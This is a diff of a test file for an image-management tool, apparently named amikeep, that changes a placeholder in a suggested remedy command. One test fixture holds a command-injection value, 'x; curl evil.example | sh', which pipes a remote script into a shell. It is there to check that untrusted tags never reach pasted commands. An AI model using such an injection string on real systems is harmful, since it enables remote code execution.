@@ -55,11 +55,7 @@ describe('P23: an image of ours whose seal does not hold', () => {
   });
 
   it.each([
-    [
-      'as an adoption',
-      'golden',
-      'amikeep adopt --filter tag:amikeep:adopted=ami-00000000000000001 --policy <its policy>',
-    ],
+    ['as an adoption', 'golden', 'amikeep adopt --filter tag:amikeep:adopted=ami-00000000000000001 --policy NAME'],
     ['although its name is ours', imageOfDay(0).name, 'take that tag off'],
   ])('P1: is refused where the tag of an adoption is on it, which anybody may write: %s', (_, name, remedy) => {
     const image = tagged(imageOfDay(0, {}, { seal: 'broken', name }), { 'amikeep:adopted': ami(1) });
@@ -72,7 +68,7 @@ describe('P23: an image of ours whose seal does not hold', () => {
   it('P1: puts no word of an unproven tag into a command that people paste', () => {
     const image = imageOfDay(0, { policy: 'x; curl evil.example | sh' }, { seal: 'broken', name: 'golden' });
     const { reason } = decided(tagged(image, { 'amikeep:adopted': ami(1) }));
-    expect(reason.text).toContain('--policy <its policy>');
+    expect(reason.text).toContain('--policy NAME');
     expect(reason.text).not.toContain('evil.example');
   });
 
